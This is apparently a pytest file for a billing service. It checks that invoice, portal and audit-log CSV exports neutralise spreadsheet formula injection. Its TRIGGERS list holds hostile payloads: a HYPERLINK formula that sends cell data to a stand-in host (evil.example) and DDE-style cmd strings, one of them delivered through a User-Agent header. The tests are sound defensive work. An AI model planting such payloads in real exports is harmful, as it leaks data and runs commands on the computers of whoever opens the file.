"""No CSV the product writes can run a formula in a spreadsheet: a cell starting with = + - @, a tab or a
carriage return is neutralised with a leading ', in the FOCUS and CSV exports of invoices (API and portal)
and in the audit log's CSV; numbers, negative amounts included, stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from billing.services.invoicing import draft_invoice
from billing.services.rates import create_rate_card
from core.audit import Actor
from tenants.services import lifecycle

ADMIN = Actor.console("tests")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the invoice")'
TRIGGERS = [
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content
    body = response.content if hasattr(response, "content") else b"".join(response.streaming_content)
    return list(csv.DictReader(io.StringIO(body.decode(), newline="")))


@pytest.fixture
def invoice(people):
    create_rate_card(
        actor=ADMIN, effective_from=datetime(2026, 1, 1, tzinfo=UTC), prices={"h100-80gb": "2.00"}
    )
    return draft_invoice(actor=ADMIN, tenant=people["a"], year=2026, month=5)


def named(people, display_name: str, invoice) -> None:
    lifecycle.update_tenant(actor=Actor.of(people["admin"]), tenant=people["a"], display_name=display_name)
    invoice.lines.create(
        kind="credit", gpu_class="h100-80gb", description=display_name, charge_start=invoice.period_start,
        charge_end=invoice.period_end, gpu_hours=1, list_unit_price=2, unit_price=2, list_amount=-2,
        amount=-2, currency="USD", rate_card_version=1,
    )  # fmt: skip


@pytest.mark.parametrize("display_name", TRIGGERS)
def test_a_display_name_that_is_a_formula_is_text_in_the_focus_export(api, people, invoice, display_name):
    named(people, display_name, invoice)
    (row,) = rows(api(people["alice"]).get(f"/api/v1/invoices/{invoice.public_id}/focus/"))
    people["a"].refresh_from_db()  # the service trims a display name's spaces, which may leave a formula
    assert row["SubAccountName"] == "'" + people["a"].display_name
    assert row["ChargeDescription"] == "'" + display_name
    assert (row["BilledCost"], row["ListCost"]) == ("-2.00", "-2.00")  # a negative amount is a number


def test_the_invoice_csv_and_the_month_export_neutralise_formulas_too(api, people, invoice):
    named(people, HYPERLINK, invoice)
    client = api(people["admin"])
    (line,) = rows(client.get(f"/api/v1/invoices/{invoice.public_id}/csv/"))
    assert (line["description"], line["amount"]) == ("'" + HYPERLINK, "-2.00")
    (focus,) = rows(client.get("/api/v1/invoices/export/?month=2026-05&as=focus"))
    assert focus["SubAccountName"] == "'" + HYPERLINK
    (flat,) = rows(client.get("/api/v1/invoices/export/?month=2026-05&as=csv"))
    assert flat["description"] == "'" + HYPERLINK


def test_the_portals_downloads_neutralise_formulas(client, people, invoice):
    named(people, HYPERLINK, invoice)
    client.force_login(people["alice"])
    (focus,) = rows(client.get(f"/tenants/tenant-a/invoices/{invoice.public_id}/focus.csv"))
    assert focus["SubAccountName"] == "'" + HYPERLINK
    (month,) = rows(client.get("/tenants/tenant-a/usage/focus/2026-05/"))
    assert month["SubAccountName"] == "'" + HYPERLINK


def test_the_audit_logs_csv_neutralises_a_formula_in_an_event(api, people):
    """The audit log keeps the caller's User-Agent, which the caller writes."""
    alice = api(people["alice"])
    body = {"tenant": "tenant-a", "monthly_amount": "100"}
    assert alice.post("/api/v1/budgets/", body, format="json", HTTP_USER_AGENT=HYPERLINK).status_code == 201

    (event,) = rows(api(people["admin"]).get("/api/v1/audit-events/export/?action=budget.set"))

    assert event["user_agent"] == "'" + HYPERLINK
